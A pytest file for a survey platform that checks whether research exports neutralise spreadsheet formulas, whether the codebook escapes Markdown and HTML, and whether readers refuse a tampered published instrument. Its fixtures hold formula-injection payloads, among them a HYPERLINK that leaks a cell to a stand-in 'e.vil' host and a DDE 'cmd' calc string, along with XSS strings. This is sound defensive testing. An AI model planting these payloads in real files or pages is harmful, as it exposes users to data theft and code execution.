"""Hostile values on the way out: spreadsheet formulas in research exports, Markdown and HTML in
the codebook, and an edited published instrument under stored responses.

The database is built through the public store API, on SQLite and PostgreSQL. Every export
format is read back with an independent reader (the ``csv`` module, pyarrow, pyreadstat) and no
text cell may start with a character a spreadsheet reads as a formula unless it carries the
leading ``'`` of :func:`survey.exports.cells.neutralise_formula`.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pyreadstat
import pytest
import yaml

from survey.exports.cells import FORMULA_STARTS, PREFIX
from survey.exports.export import export_dataset
from survey.exports.formats import FORMAT_NAMES
from survey.instrument.registry import (
    LOCK_NAME,
    PinnedContentChanged,
    Registry,
    load_registry,
    publish,
    read_lock,
    validate,
    write_lock,
)
from tests.conftest import write_instruments
from tests.hostile.harness import database_fingerprint, run_bounded

#: An industry and a region shared by every organisation (so no coarsening hides them).
INDUSTRY = '=HYPERLINK("http://e.vil/?leak="&A2,"Click for details")'
REGION = "+49-30@SUM(1+1)*cmd|' /C calc'!A0"
#: An imported language value and a campaign name.
LANGUAGE = "=2+5"
CAMPAIGN = "@SUM(A1:A9)"
#: Organisation names: a formula, backticks that try to leave a code span, raw HTML.
NAMES = [f"-Org {i} ``` </code><img src=x onerror=alert({i})> | *x*" for i in range(6)]
SECRET = b"s" * 32


def _force(url: str, table: str, column: str, value: str, row_id: int) -> None:
    """Write ``value`` straight into the database: a row written before a field rule existed
    (an old database, a restored backup) must be exported as safely as a fresh one."""
    from sqlalchemy import create_engine, text

    engine = create_engine(url)
    try:
        with engine.begin() as conn:
            conn.execute(
                text(f"UPDATE {table} SET {column} = :value WHERE id = :id"),
                {"value": value, "id": row_id},
            )
    finally:
        engine.dispose()


def _organisation(store: Any, url: str, name: str) -> Any:
    try:
        return store.create_organisation(name, industry=INDUSTRY, size_band="50-249", region=REGION)
    except ValueError:  # a field rule refuses the values: put them in as an old row would be
        org = store.create_organisation(
            f"org {len(store.organisations())}",
            industry="Machinery",
            size_band="50-249",
            region="EU",
        )
        for column, value in (("name", name), ("industry", INDUSTRY), ("region", REGION)):
            _force(url, "organisations", column, value, org.id)
        return org


def _invitation(store: Any, url: str, campaign_id: int, language: str) -> str:
    try:
        _, token = store.create_invitation(campaign_id, role="sales", language=language)
    except ValueError:
        invitation, token = store.create_invitation(campaign_id, role="sales", language="en")
        _force(url, "invitations", "language", language, invitation.id)
    return str(token)


def _answers(instrument: Any, value: int) -> dict[str, int | str]:
    answers: dict[str, int | str] = {item: value for item in instrument.item_ids}
    answers[instrument.item_ids[-1]] = "na"  # the last item is on the not-applicable scale
    return answers


def _build(store: Any, url: str, ref: str = "alpha@1.0.0") -> list[Any]:
    """Six organisations sharing a formula-like industry and region, each with one campaign
    (a formula-like name) and two submitted responses, one in a formula-like language."""
    instrument = store.instrument(ref)
    organisations = []
    for i, name in enumerate(NAMES):
        org = _organisation(store, url, name)
        campaign = store.create_campaign(org.id, f"{CAMPAIGN} {i}", instruments=[ref])
        for language, value in ((LANGUAGE, 2 + i % 3), ("en", 4)):
            token = _invitation(store, url, campaign.id, language)
            store.save_draft(token, ref, _answers(instrument, value))
            store.submit(token)
        organisations.append(org)
    return organisations


def _cells(path: Path, fmt: str) -> list[tuple[str, Any]]:
    """(column, value) of every cell of a data file, read with a reader of its own."""
    if fmt in ("csv", "datapackage"):
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        return [(column, value) for row in rows for column, value in row.items()]
    if fmt == "parquet":
        table = pq.read_table(path).to_pydict()
        return [(column, value) for column, values in table.items() for value in values]
    frame, _ = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path))
    return [(column, value) for column in frame.columns for value in frame[column].tolist()]


@pytest.fixture
def hostile_store(store: Any, store_url: str) -> tuple[Any, str, list[Any]]:
    return store, store_url, _build(store, store_url)


@pytest.mark.parametrize("fmt", FORMAT_NAMES)
def test_no_export_cell_reads_as_a_formula(hostile_store, tmp_path, fmt):
    store, _, _ = hostile_store
    result = export_dataset(
        store.responses(), store.registry, fmt, tmp_path, include_personal=True, secret=SECRET
    )
    data = [p for p in result.files if p.suffix in {".csv", ".parquet", ".sav", ".dta"}]
    assert data
    texts: list[tuple[str, str, str]] = []
    for path in data:
        for column, value in _cells(path, fmt):
            if isinstance(value, str):
                texts.append((path.name, column, value))
                assert not value.startswith(FORMULA_STARTS), (path.name, column, value)
    # The hostile values are there, neutralised (not coarsened or dropped): six organisations
    # share them, more than min_cohort.
    values = {value for _, _, value in texts}
    for hostile in (INDUSTRY, REGION, LANGUAGE, NAMES[0], f"{CAMPAIGN} 0"):
        assert PREFIX + hostile in values, hostile
    # Numbers stay numbers: answers and scores are never prefixed.
    assert not any(
        value.startswith(PREFIX) for _, column, value in texts if column.startswith(("A_", "scale"))
    )
    # The codebook names every column that had cells neutralised, per file, and the rule.
    codebook = json.loads((tmp_path / "codebook.json").read_text(encoding="utf-8"))
    formulas = codebook["spreadsheet_formulas"]
    assert "leading '" in formulas["rule"]
    listed = {(n["file"], n["column"]) for n in formulas["neutralised"]}
    expected = {(name, column) for name, column, value in texts if value.startswith(PREFIX)}
    assert listed == expected
    assert {column for _, column in listed} == {
        "industry",
        "region",
        "language",
        "organisation_name",
        "campaign_name",
    }
    markdown = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    assert "## Spreadsheet formulas" in markdown and "`organisation_name`" in markdown


def test_sav_and_dta_keep_numbers_numeric(hostile_store, tmp_path):
    store, _, _ = hostile_store
    for fmt in ("sav", "dta"):
        result = export_dataset(
            store.responses(), store.registry, fmt, tmp_path / fmt, secret=SECRET
        )
        responses = next(p for p in result.files if p.name.startswith("responses-"))
        frame, _ = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(responses))
        assert frame["A_1_1"].dtype.kind == "f"
        assert frame["industry"].tolist() == [PREFIX + INDUSTRY] * len(frame)


def test_csv_export_by_the_cli_is_neutralised(hostile_store, tmp_path, test_instruments_dir):
    _, url, _ = hostile_store
    out = tmp_path / "out"
    outcome = run_bounded(
        "export",
        "--db",
        url,
        "--format",
        "csv",
        "--out",
        str(out),
        env=_environment(tmp_path, test_instruments_dir),
    )
    assert outcome.code == 0, outcome.stderr[-2000:]
    assert not outcome.traceback
    neutralised = 0
    for path in out.glob("*.csv"):
        for column, value in _cells(path, "csv"):
            assert not value.startswith(FORMULA_STARTS), (path.name, column, value)
            neutralised += value.startswith(PREFIX)
    assert neutralised > 0


def _markdown_html(markdown: str) -> str:
    """The codebook as a CommonMark renderer with tables and raw HTML enabled shows it."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_codebook_quotes_names_inertly(hostile_store, tmp_path):
    store, _, organisations = hostile_store
    from survey.exports.dataset import ExportFilters

    name = NAMES[2]
    export_dataset(
        store.responses(organisation_id=organisations[2].id),
        store.registry,
        "csv",
        tmp_path,
        include_personal=True,
        filters=ExportFilters(organisation=name),
        secret=SECRET,
    )
    codebook = json.loads((tmp_path / "codebook.json").read_text(encoding="utf-8"))
    assert codebook["filters"]["organisation"] == name  # JSON quotes it as it is
    markdown = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    line = next(line for line in markdown.splitlines() if line.startswith("- organisation:"))
    # A fence longer than any run of backticks inside: the name cannot close the code span.
    assert line == f"- organisation: ````{name}````"
    html = _markdown_html(markdown)
    assert "<img" not in html and "</code><img" not in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert f"<code>{name.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}" in (
        html.replace("&quot;", '"')
    )


def test_codebook_escapes_markup_in_quoted_text(tmp_path):
    from survey.exports.codebook import codebook_markdown

    codebook: dict[str, Any] = {
        "title": "<script>alert(1)</script>",
        "format": "csv",
        "exported_at": "2026-01-01",
        "software": {"name": "cocreate", "version": "0"},
        "language": "e`n",
        "filters": {"campaign": "`` <b>x</b>\n# heading"},
        "counts": {"responses": 1},
        "files": [{"path": "a|b.csv", "table": "t | u", "rows": 1, "description": "*d* [l](j:x)"}],
        "personal_data": {"included": True, "excluded": []},
        "pseudonymisation": {"method": "m", "secret_source": "setting"},
        "suppression": {"rule": "r", "applied": []},
        "variable_names": "    - 1. a list in a code block #",
        "missing_values": {"not_applicable": "NA"},
        "respondent_columns": {},
        "long_table_columns": {},
        "instruments": [],
    }
    html = _markdown_html(codebook_markdown(codebook))
    assert "<p>- 1. a list in a code block #</p>" in html
    for raw in (
        "<script",
        "<b>",
        "<h1>heading",
        "<em>d</em>",
        'href="j:x"',
        "<pre>",
        "<li>- 1.",
        "<li>1.",
    ):
        assert raw not in html, raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<code>`` &lt;b&gt;x&lt;/b&gt; # heading</code>" in html
    assert "<code>e`n</code>" in html
    assert "<td><code>a|b.csv</code></td>" in html  # one cell: the pipe does not split the row


# ---------------------------------------------------------------------------------------------
# An edited published instrument under stored responses
# ---------------------------------------------------------------------------------------------
def _environment(tmp_path: Path, instruments: Path) -> dict[str, str]:
    return {
        "COCREATE_PSEUDONYM_SECRET": SECRET.decode(),
        "COCREATE_DATA_DIR": str(tmp_path / "data"),
        "COCREATE_INSTRUMENTS_DIR": str(instruments),
    }


def _edit_and_relock(root: Path, key: str) -> tuple[str, str]:
    """Change a published file's title and write its new hash into the lock, as someone who
    silenced the I403 error would; returns (old hash, new hash)."""
    lock_path = root / LOCK_NAME
    lock, _ = read_lock(lock_path)
    old = lock[key]
    instrument_id, _, version = key.partition("@")
    path = root / instrument_id / f"{version}.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["title"]["en"] = "An edited title the respondents never saw"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    edited, _ = validate([root])
    new = edited.get(key).sha256
    assert new != old
    lock[key] = new
    write_lock(lock_path, lock)
    load_registry([root])  # the instruments are valid again: only the pinned hash tells
    return old, new


@pytest.fixture
def published(tmp_path: Path) -> tuple[Path, Registry]:
    root = write_instruments(tmp_path / "instruments")
    for key in ("alpha@1.0.0", "beta@1.0.0"):
        publish(key, root)
    return root, load_registry([root])


def test_report_refuses_an_edited_instrument(store_url, tmp_path, published):
    from survey.storage import open_store

    root, registry = published
    store = open_store(store_url, registry=registry)
    try:
        organisations = _build(store, store_url)
    finally:
        store.close()
    old, new = _edit_and_relock(root, "alpha@1.0.0")
    before = database_fingerprint(store_url)
    out = tmp_path / "report.html"
    outcome = run_bounded(
        "report",
        "--db",
        store_url,
        "--organisation",
        str(organisations[0].id),
        "--format",
        "html",
        "--out",
        str(out),
        env=_environment(tmp_path, root),
    )
    outcome.assert_refused("alpha@1.0.0", old, new, "Restore the file", LOCK_NAME)
    assert outcome.code == 1
    assert not out.exists()
    assert database_fingerprint(store_url) == before

    # ``export`` refuses with the same message: one check, every reader.
    exported = run_bounded(
        "export",
        "--db",
        store_url,
        "--format",
        "csv",
        "--out",
        str(tmp_path / "export"),
        env=_environment(tmp_path, root),
    )
    exported.assert_refused("alpha@1.0.0", old, new, "Restore the file")
    assert database_fingerprint(store_url) == before


def test_firm_results_refuse_an_edited_instrument(store_url, tmp_path, published):
    from survey.services.results import firm_results
    from survey.storage import open_store

    root, registry = published
    store = open_store(store_url, registry=registry)
    try:
        organisations = _build(store, store_url)
    finally:
        store.close()
    assert firm_results(open_store(store_url, registry=registry), organisations[1].id).sections
    old, new = _edit_and_relock(root, "alpha@1.0.0")
    store = open_store(store_url, registry=load_registry([root]))
    try:
        with pytest.raises(PinnedContentChanged) as refused:
            firm_results(store, organisations[1].id)
    finally:
        store.close()
    assert (refused.value.key, refused.value.pinned, refused.value.current) == (
        "alpha@1.0.0",
        old,
        new,
    )
    assert refused.value.responses == 2
    assert "alpha/1.0.0.yaml" in str(refused.value)


@pytest.mark.parametrize(("page", "role"), [("results", "firm_admin"), ("research", "researcher")])
def test_pages_show_the_refusal(tmp_path, published, monkeypatch, page, role):
    from survey.storage import open_store
    from tests.app_support import PASSWORD, app

    root, registry = published
    url = f"sqlite:///{tmp_path / 'app.db'}"
    store = open_store(url, registry=registry)
    try:
        organisations = _build(store, url)
        user = store.create_user(
            "user@example.org",
            PASSWORD,
            role,
            organisation_id=organisations[0].id if role == "firm_admin" else None,
        )
    finally:
        store.close()
    old, new = _edit_and_relock(root, "alpha@1.0.0")
    for name, value in _environment(tmp_path, root).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("COCREATE_DATABASE_URL", url)
    at = app(f"app_pages/{page}.py", user=user)
    at.run()
    assert not at.exception
    assert len(at.error) == 1
    message = at.error[0].value
    assert old in message and new in message and "instruments.lock" in message
    assert "alpha@1\\.0\\.0" in message
    assert not at.get("vega_lite_chart")  # nothing of the edited content is charted
    assert not at.dataframe


def test_psychometrics_and_cohorts_refuse_an_edited_instrument(store_url, published):
    from survey.services.cohorts import organisation_indices
    from survey.services.psychometrics import instrument_factor_model, instrument_psychometrics
    from survey.storage import open_store

    root, registry = published
    store = open_store(store_url, registry=registry)
    try:
        _build(store, store_url)
        instrument = store.registry.get("alpha@1.0.0")
        assert instrument_psychometrics(store, instrument).responses == 2 * len(NAMES)
        assert len(organisation_indices(store, instrument)) == len(NAMES)
    finally:
        store.close()
    old, new = _edit_and_relock(root, "alpha@1.0.0")
    store = open_store(store_url, registry=load_registry([root]))
    try:
        edited = store.registry.get("alpha@1.0.0")
        for reader in (instrument_psychometrics, instrument_factor_model, organisation_indices):
            with pytest.raises(PinnedContentChanged, match=new) as refused:
                reader(store, edited)
            assert refused.value.pinned == old
            assert refused.value.responses == 2 * len(NAMES)
    finally:
        store.close()


def test_the_rule_touches_text_cells_only_and_can_be_undone():
    import pandas as pd

    from survey.exports.cells import neutralise_formula, neutralise_frame

    frame = pd.DataFrame(
        {
            "text": pd.Series(["=1+1", "+1", "-x", "@a", "\tb", "\rc", "'=d", "plain", None]),
            "mixed": pd.Series([-9, "NA", "-9", 3, None, "a", "b", "c", "d"], dtype=object),
            "typed": pd.array(["=z", "y", None, "x", "w", "v", "u", "t", "s"], dtype="string"),
            "number": [-1.5, -2.0, 3.0, 0.0, -0.0, 1.0, 2.0, 3.0, 4.0],
        }
    )
    original = frame.copy()
    safe, counts = neutralise_frame(frame)
    pd.testing.assert_frame_equal(frame, original)  # the input is not changed
    assert safe.dtypes.to_dict() == frame.dtypes.to_dict()
    assert counts == {"text": 7, "mixed": 1, "typed": 1}
    assert safe["mixed"].tolist()[:3] == [-9, "NA", "'-9"]  # the number -9 stays a number
    assert safe["number"].tolist() == frame["number"].tolist()
    restored = [v[1:] if isinstance(v, str) and v.startswith(PREFIX) else v for v in safe["text"]]
    assert restored == frame["text"].tolist()
    assert [neutralise_formula(v) for v in (-3, 2.5, None, True)] == [-3, 2.5, None, True]
    unchanged, none = neutralise_frame(frame[["number"]])
    assert none == {} and unchanged is not None


def test_score_outputs_neutralise_respondent_ids(tmp_path, test_instruments_dir, test_registry):
    instrument = test_registry.get("alpha@1.0.0")
    ids = ['=HYPERLINK("http://e.vil")', "+1", "-2", "@x", "plain", "'quoted"]
    rows = [
        {"respondent": rid, **{item: 1 + (k + j) % 5 for j, item in enumerate(instrument.item_ids)}}
        for k, rid in enumerate(ids)
    ]
    path = tmp_path / "answers.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    out = tmp_path / "out"
    outcome = run_bounded(
        "score",
        str(path),
        "--instrument",
        "alpha@1.0.0",
        "--id-column",
        "respondent",
        "--out",
        str(out),
        env=_environment(tmp_path, test_instruments_dir),
    )
    assert outcome.code == 0, outcome.stderr[-2000:]
    with (out / "scores.csv").open(encoding="utf-8", newline="") as handle:
        written = [row[0] for row in csv.reader(handle)][1:]
    assert written == [PREFIX + rid if rid[0] in "=+-@'" else rid for rid in ids]
    for name in ("reliability.csv", "items.csv", "flags.csv"):
        for _, value in _cells(out / name, "csv"):
            if not _is_number(value):  # numbers such as -1.2 are left as numbers
                assert not value.startswith(FORMULA_STARTS), (name, value)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_answering_refuses_an_edited_instrument_with_the_same_message(store_url, published):
    """Drafts and submissions check the pinned hash with the readers' check: nothing is saved."""
    from survey.storage import StorageError, open_store

    root, registry = published
    store = open_store(store_url, registry=registry)
    try:
        org = store.create_organisation(
            "Edited Instrument GmbH", industry="Chemicals", size_band="50-249", region="DACH"
        )
        campaign = store.create_campaign(org.id, "Spring", instruments=["alpha@1.0.0"])
        _, token = store.create_invitation(campaign.id, role="sales")
        answers = _answers(store.instrument("alpha@1.0.0"), 3)
    finally:
        store.close()
    old, new = _edit_and_relock(root, "alpha@1.0.0")
    before = database_fingerprint(store_url)
    store = open_store(store_url, registry=load_registry([root]))
    try:
        for attempt in (
            lambda: store.save_draft(token, "alpha@1.0.0", answers),
            lambda: store.submit(token),
        ):
            with pytest.raises(StorageError) as refused:
                attempt()
            message = str(refused.value)
            assert "alpha@1.0.0" in message and old in message and new in message
            assert "Restore the file" in message
    finally:
        store.close()
    assert database_fingerprint(store_url) == before
